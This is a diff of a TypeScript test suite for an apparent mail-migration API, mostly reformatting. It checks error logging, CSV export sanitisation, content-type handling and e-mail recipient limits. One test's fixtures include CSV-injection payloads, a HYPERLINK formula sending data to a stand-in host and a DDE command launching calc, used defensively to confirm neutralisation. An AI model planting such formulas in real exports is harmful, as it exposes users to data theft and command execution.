@@ -17,9 +17,20 @@ import { rawRequest } from './raw-http.js';
 
 const QUIET: EngineLog = { info: () => {}, warn: () => {}, error: () => {} };
 const SECRET = 'Admin-Pa55word-never-logged';
-const ENDPOINT = { name: 'Source', kind: 'imap', host: 'imap.contoso.test', adminMode: 'login-star', adminLogin: 'admin', adminPassword: SECRET };
+const ENDPOINT = {
+  name: 'Source',
+  kind: 'imap',
+  host: 'imap.contoso.test',
+  adminMode: 'login-star',
+  adminLogin: 'admin',
+  adminPassword: SECRET,
+};
 
-interface Logged { level: string; message: string; fields?: Record<string, unknown> }
+interface Logged {
+  level: string;
+  message: string;
+  fields?: Record<string, unknown>;
+}
 const capture = (into: Logged[]): EngineLog => ({
   info: (message, fields) => into.push({ level: 'info', message, fields }),
   warn: (message, fields) => into.push({ level: 'warn', message, fields }),
@@ -53,8 +64,14 @@ describe('server errors, path encoding and the statistics report', () => {
       runtime = await EmbeddedRuntime.open({ dataDir: tempDir(), log: QUIET });
       ({ server, url: base } = await startHttpServer(runtime.services, { port: 0, log: QUIET }));
       const endpoint = await api('POST', '/endpoints', ENDPOINT);
-      projectId = (await api('POST', '/projects', { name: 'Report', sourceEndpointId: endpoint.json.id, destinationEndpointId: endpoint.json.id })).json.id;
-      for (const user of ['tab', 'cr', 'eq']) await api('POST', `/projects/${projectId}/items`, { sourceAddress: `${user}@contoso.test`, destinationAddress: `${user}@fabrikam.test` });
+      projectId = (
+        await api('POST', '/projects', { name: 'Report', sourceEndpointId: endpoint.json.id, destinationEndpointId: endpoint.json.id })
+      ).json.id;
+      for (const user of ['tab', 'cr', 'eq'])
+        await api('POST', `/projects/${projectId}/items`, {
+          sourceAddress: `${user}@contoso.test`,
+          destinationAddress: `${user}@fabrikam.test`,
+        });
     });
     afterAll(async () => {
       await new Promise((resolve) => server.close(resolve));
@@ -71,7 +88,11 @@ describe('server errors, path encoding and the statistics report', () => {
     });
 
     it('neutralises CSV cells that start with TAB or CR as well as = + - @ (reasons come from mail servers)', async () => {
-      const reasons: Record<string, string> = { tab: '\t=HYPERLINK("http://evil.test/?"&A1,"Details")', cr: '\r=1+1', eq: '=cmd|\'/c calc\'!A0' };
+      const reasons: Record<string, string> = {
+        tab: '\t=HYPERLINK("http://evil.test/?"&A1,"Details")',
+        cr: '\r=1+1',
+        eq: "=cmd|'/c calc'!A0",
+      };
       for (const item of (await runtime.store.items.list(LOCAL_TENANT, { where: { projectId } })).items) {
         const reason = reasons[item.sourceAddress.split('@')[0]!]!;
         await runtime.store.items.replace({ ...item, lastRun: { ...zeroCounts(), passId: 'p1', kind: 'full', status: 'Failed', reason } });
@@ -83,7 +104,7 @@ describe('server errors, path encoding and the statistics report', () => {
       expect(csv).not.toMatch(/(^|,)"?[\t\r]=/m);
     });
 
-    it('e-mails the statistics report to an address in one of the project\'s domains only', async () => {
+    it("e-mails the statistics report to an address in one of the project's domains only", async () => {
       const outside = await api('POST', `/projects/${projectId}/statistics/email`, { to: 'someone@gmail.test' });
       expect(outside.status).toBe(400);
       expect(outside.json.field).toBe('to');
@@ -105,7 +126,10 @@ describe('server errors, path encoding and the statistics report', () => {
 
     const expectLogged = (logged: Logged[], prefix = '') => {
       expect(logged).toHaveLength(1);
-      expect(logged[0]).toMatchObject({ level: 'error', message: expect.stringMatching(new RegExp(`^${prefix}POST /api/v1/endpoints answered 500: \\S`)) });
+      expect(logged[0]).toMatchObject({
+        level: 'error',
+        message: expect.stringMatching(new RegExp(`^${prefix}POST /api/v1/endpoints answered 500: \\S`)),
+      });
       expect(String(logged[0]!.fields?.stack)).toMatch(/\n\s+at /);
       expect(JSON.stringify(logged)).not.toContain(SECRET);
     };
@@ -126,10 +150,18 @@ describe('server errors, path encoding and the statistics report', () => {
 
     it('on the Azure Functions host', async () => {
       const logged: Logged[] = [];
-      const context = new InvocationContext({ functionName: 'api', logHandler: (level, ...args) => logged.push({ level, message: String(args[0]), fields: args[1] as Record<string, unknown> }) });
-      const handler = createHttpHandler(async () => ({ services: broken.services, authenticator: new LocalAdminAuthenticator() }) as unknown as AzureHost);
+      const context = new InvocationContext({
+        functionName: 'api',
+        logHandler: (level, ...args) => logged.push({ level, message: String(args[0]), fields: args[1] as Record<string, unknown> }),
+      });
+      const handler = createHttpHandler(
+        async () => ({ services: broken.services, authenticator: new LocalAdminAuthenticator() }) as unknown as AzureHost,
+      );
       const { headers, body } = json(ENDPOINT);
-      const res = await handler(new HttpRequest({ method: 'POST', url: 'https://mailferry.azurewebsites.net/api/v1/endpoints', headers, body: { string: body } }), context);
+      const res = await handler(
+        new HttpRequest({ method: 'POST', url: 'https://mailferry.azurewebsites.net/api/v1/endpoints', headers, body: { string: body } }),
+        context,
+      );
       expect(res.status).toBe(500);
       expectLogged(logged, 'Mailferry API: ');
     });
@@ -138,8 +170,19 @@ describe('server errors, path encoding and the statistics report', () => {
   it('the Azure Functions host reads JSON routes only as application/json', async () => {
     const runtime = await EmbeddedRuntime.open({ dataDir: tempDir(), log: QUIET });
     try {
-      const handler = createHttpHandler(async () => ({ services: runtime.services, authenticator: new LocalAdminAuthenticator() }) as unknown as AzureHost);
-      const call = (type: string, body: string) => handler(new HttpRequest({ method: 'POST', url: 'https://mailferry.azurewebsites.net/api/v1/endpoints', headers: { 'content-type': type }, body: { string: body } }), new InvocationContext());
+      const handler = createHttpHandler(
+        async () => ({ services: runtime.services, authenticator: new LocalAdminAuthenticator() }) as unknown as AzureHost,
+      );
+      const call = (type: string, body: string) =>
+        handler(
+          new HttpRequest({
+            method: 'POST',
+            url: 'https://mailferry.azurewebsites.net/api/v1/endpoints',
+            headers: { 'content-type': type },
+            body: { string: body },
+          }),
+          new InvocationContext(),
+        );
       for (const type of ['text/plain', 'application/x-www-form-urlencoded', 'text/csv']) {
         const res = await call(type, type === 'application/x-www-form-urlencoded' ? 'name=x&kind=imap' : JSON.stringify(ENDPOINT));
         expect(res.status, type).toBe(415);
@@ -174,8 +217,17 @@ describe('server errors, path encoding and the statistics report', () => {
       tokens.owner = await issuer.mint({ tid: TENANT, oid: 'olga-oid', name: 'Olga' });
       tokens.viewer = await issuer.mint({ tid: TENANT, oid: 'vic-oid', name: 'Vic' });
       const endpoint = await api('owner', 'POST', '/endpoints', ENDPOINT);
-      projectId = (await api('owner', 'POST', '/projects', { name: 'Shared', sourceEndpointId: endpoint.json.id, destinationEndpointId: endpoint.json.id })).json.id;
-      await api('owner', 'POST', `/projects/${projectId}/items`, { sourceAddress: 'ann@contoso.test', destinationAddress: 'ann@fabrikam.test' });
+      projectId = (
+        await api('owner', 'POST', '/projects', {
+          name: 'Shared',
+          sourceEndpointId: endpoint.json.id,
+          destinationEndpointId: endpoint.json.id,
+        })
+      ).json.id;
+      await api('owner', 'POST', `/projects/${projectId}/items`, {
+        sourceAddress: 'ann@contoso.test',
+        destinationAddress: 'ann@fabrikam.test',
+      });
     });
     afterAll(async () => {
       await new Promise((resolve) => server.close(resolve));
@@ -195,7 +247,11 @@ describe('server errors, path encoding and the statistics report', () => {
       expect(running.status).toBe(202);
       expect((await api('viewer', 'POST', `/projects/${projectId}/statistics/email`, { to: 'vic@elsewhere.test' })).status).toBe(400);
       const outbox = join(dataDir, 'outbox');
-      expect(readdirSync(outbox).map((file) => readFileSync(join(outbox, file), 'utf8')).filter((eml) => eml.includes('To: vic@contoso.test'))).toHaveLength(1);
+      expect(
+        readdirSync(outbox)
+          .map((file) => readFileSync(join(outbox, file), 'utf8'))
+          .filter((eml) => eml.includes('To: vic@contoso.test')),
+      ).toHaveLength(1);
       expect(readdirSync(outbox)).toHaveLength(1);
     });
   });
